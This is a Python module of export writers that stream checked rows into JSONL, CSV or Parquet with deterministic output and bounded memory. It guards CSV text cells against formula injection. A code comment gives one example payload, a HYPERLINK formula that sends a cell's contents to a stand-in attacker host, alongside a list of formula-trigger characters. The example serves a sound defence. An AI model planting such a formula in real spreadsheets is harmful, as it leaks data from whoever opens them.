"""Format writers: stream checked rows into JSONL, CSV or Parquet in constant memory.

Each writer streams into a binary sink (a staged file, or standard output) and holds at most
one row (JSONL, CSV) or one Parquet row group in memory, so an export of millions of records
costs the same RAM as one of a thousand. Writers never close the sink: the caller owns it.
Output depends only on the rows: no timestamps, random ids or dict-order accidents, so
re-running an export gives byte-identical files that researchers can checksum and cite.

* JSONL keeps nesting (lists, structs) as JSON; dates and datetimes as ISO strings.
* CSV has one header row; lists and structs are JSON text in their cell, ``None`` is an
  empty cell (records never hold empty strings, so the two cannot be confused), booleans are
  ``true``/``false``. Text cells that a spreadsheet would run as a formula are neutralised
  (``neutralise_formula``); JSONL and Parquet keep every text exactly as archived.
* Parquet uses real types (``date32``, UTC timestamps, lists, list<struct>) and carries each
  column's description in its field metadata.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
from collections.abc import Callable, Iterable, Iterator, Mapping
from datetime import date, datetime
from typing import Any, BinaryIO

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

from storage.export.columns import batch_text_chars, checked_columns, chunks, record_batch
from storage.export.schema import ExportSchema

#: Rows per Parquet row group: large enough for good compression and fast column scans.
DEFAULT_ROW_GROUP_ROWS = 10_000
#: Text characters buffered before a row group is flushed early. Q&A rows range from a few
#: hundred bytes to tens of kilobytes (long explanations, many links), so a row count alone
#: would not bound memory; this does (the buffer is held twice: Python lists, Arrow arrays).
DEFAULT_ROW_GROUP_CHARS = 8_000_000

#: Fixed so the bytes depend on the data only; changing any of these changes every checksum.
#: Statistics are written for the columns ``parquet_options`` picks, not for every column.
PARQUET_OPTIONS: dict[str, Any] = {
    "compression": "zstd",
    "compression_level": 3,
    "version": "2.6",
    "use_dictionary": True,
}


def parquet_options(arrow_schema: pa.Schema) -> dict[str, Any]:
    """``PARQUET_OPTIONS`` with min/max statistics for the top-level columns that are not
    text or nested: ids, counts, dates and times, which readers filter on. A text column's
    statistics are its smallest and largest value, up to 4 KB each per row group, which no
    reader prunes by, and the writer holds every row group's footer entry until it closes:
    at 1,000,000 questions the footer was 6.8 MB on disk (605 row groups x 37 columns,
    explanation statistics 2.4 KB each) and the export's peak memory grew with it."""
    scalar = [
        field.name
        for field in arrow_schema
        if not (
            pa.types.is_string(field.type)
            or pa.types.is_large_string(field.type)
            or pa.types.is_binary(field.type)
            or pa.types.is_nested(field.type)
        )
    ]
    return {**PARQUET_OPTIONS, "write_statistics": scalar}


Rows = Iterable[Mapping[str, Any]]


def _json_default(value: Any) -> str:
    if isinstance(value, date | datetime):
        return value.isoformat()
    raise TypeError(f"not JSON serialisable: {type(value).__name__}")


# json.dumps escapes control characters but not these, and str.splitlines() and some JSONL
# readers break lines at them; escaping keeps one record per line for every reader.
_LINE_BREAKS = str.maketrans({"\x85": "\\u0085", "\u2028": "\\u2028", "\u2029": "\\u2029"})


def _json(value: Any) -> str:
    text = json.dumps(value, ensure_ascii=False, separators=(",", ":"), default=_json_default)
    return text.translate(_LINE_BREAKS)


@contextlib.contextmanager
def _text(sink: BinaryIO, newline: str) -> Iterator[io.TextIOWrapper]:
    """UTF-8 text over ``sink``, flushed and detached at the end so ``sink`` stays open."""
    handle = io.TextIOWrapper(sink, encoding="utf-8", newline=newline)  # type: ignore[type-var]
    try:
        yield handle
    finally:
        handle.flush()
        handle.detach()


def _checked_rows(rows: Rows, schema: ExportSchema) -> Iterator[tuple[Any, ...]]:
    """Each row's canonical values in column order, checked a chunk at a time."""
    count = 0
    for chunk in chunks(rows):
        yield from zip(*checked_columns(schema, chunk, count), strict=True)
        count += len(chunk)


def write_jsonl(rows: Rows, schema: ExportSchema, sink: BinaryIO) -> int:
    """One JSON object per line, keys in schema order."""
    count = 0
    names = schema.names
    with _text(sink, "\n") as handle:
        for values in _checked_rows(rows, schema):
            handle.write(_json(dict(zip(names, values, strict=True))))
            handle.write("\n")
            count += 1
    return count


#: First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula
#: (OWASP "CSV Injection": = + - @ tab CR), plus their full-width forms, which East Asian
#: spreadsheet locales also accept. Question text is typed by the public, so a title such as
#: ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` must not run when a CSV is opened.
FORMULA_TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
#: Prefixed to a neutralised cell; a spreadsheet shows the rest as plain text.
FORMULA_GUARD = "'"
#: What the manifest of a CSV export says about the guard, so a reader can undo it.
CSV_FORMULA_GUARD_NOTE = (
    "text cells starting with = + - @ TAB CR (or their full-width forms) or with ' are "
    "prefixed with one ' so spreadsheets do not run them as formulas; to get the archived "
    "text back, drop the first character of every text cell that starts with '"
)


def neutralise_formula(text: str) -> str:
    """``text`` with a ``'`` in front when a spreadsheet would treat it as a formula.

    Text that already starts with ``'`` is prefixed too, so the rule is reversible without
    ambiguity: drop one leading ``'`` from any text cell that has one.
    """
    if text and (text[0] in FORMULA_TRIGGERS or text[0] == FORMULA_GUARD):
        return FORMULA_GUARD + text
    return text


def _csv_cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, str):
        return neutralise_formula(value)
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list | dict):
        return _json(value)
    if isinstance(value, date | datetime):
        return value.isoformat()
    if isinstance(value, float):
        return repr(value)
    return str(value)


def write_csv(rows: Rows, schema: ExportSchema, sink: BinaryIO) -> int:
    """RFC 4180: CRLF line ends, multi-line text inside quoted cells.

    CRLF, not ``\\n``: the csv module quotes a field only for the characters of its line
    terminator, so with ``\\n`` a text holding a bare CR went out unquoted and split its row.

    Only text values are guarded against formula injection: numbers, dates and booleans are
    written by us, and JSON cells start with ``[`` or ``{``.
    """
    count = 0
    with _text(sink, "") as handle:
        writer = csv.writer(handle, lineterminator="\r\n")
        writer.writerow(schema.names)
        for values in _checked_rows(rows, schema):
            writer.writerow([_csv_cell(v) for v in values])
            count += 1
    return count


def write_parquet(
    rows: Rows,
    schema: ExportSchema,
    sink: BinaryIO,
    *,
    row_group_rows: int = DEFAULT_ROW_GROUP_ROWS,
    row_group_chars: int = DEFAULT_ROW_GROUP_CHARS,
) -> int:
    """Convert rows to Arrow a chunk at a time and close a row group at ``row_group_rows``
    rows or ``row_group_chars`` characters of text, whichever comes first.

    Group boundaries depend only on the rows (not on how they were chunked), so the output
    stays deterministic; Arrow does every conversion, ``columns`` the checks.
    """
    if row_group_rows < 1 or row_group_chars < 1:
        raise ValueError("row_group_rows and row_group_chars must be at least 1")
    arrow_schema = schema.arrow()
    group = _RowGroup(row_group_rows, row_group_chars)
    count = 0
    with pq.ParquetWriter(sink, arrow_schema, **parquet_options(arrow_schema)) as writer:
        for chunk in chunks(rows):
            batch = record_batch(arrow_schema, checked_columns(schema, chunk, count))
            count += len(chunk)
            for full in group.add(batch, batch_text_chars(batch)):
                writer.write_table(pa.Table.from_batches(full, schema=arrow_schema))
        if group.batches:
            writer.write_table(pa.Table.from_batches(group.batches, schema=arrow_schema))
    return count


class _RowGroup:
    """Slices of record batches waiting to fill one Parquet row group."""

    def __init__(self, max_rows: int, max_chars: int) -> None:
        self.max_rows = max_rows
        self.max_chars = max_chars
        self.batches: list[pa.RecordBatch] = []
        self.rows = 0
        self.chars = 0

    def add(self, batch: pa.RecordBatch, chars: np.ndarray) -> Iterator[list[pa.RecordBatch]]:
        """Take ``batch`` (``chars`` per row); yield each group it completes."""
        start = 0
        while start < batch.num_rows:
            running = np.cumsum(chars[start:])
            # The first row that brings the group to its row or character bound ends it.
            by_rows = self.max_rows - self.rows - 1
            by_chars = int(np.searchsorted(running, self.max_chars - self.chars, side="left"))
            end = min(by_rows, by_chars)
            if end >= batch.num_rows - start:
                self.batches.append(batch.slice(start))
                self.rows += batch.num_rows - start
                self.chars += int(running[-1])
                return
            self.batches.append(batch.slice(start, end + 1))
            yield self.batches
            self.batches, self.rows, self.chars = [], 0, 0
            start += end + 1


WRITERS: dict[str, Callable[[Rows, ExportSchema, BinaryIO], int]] = {
    "jsonl": write_jsonl,
    "csv": write_csv,
    "parquet": write_parquet,
}

#: The formats ``write_export`` accepts, for CLI choices and error messages.
FORMATS: tuple[str, ...] = tuple(WRITERS)
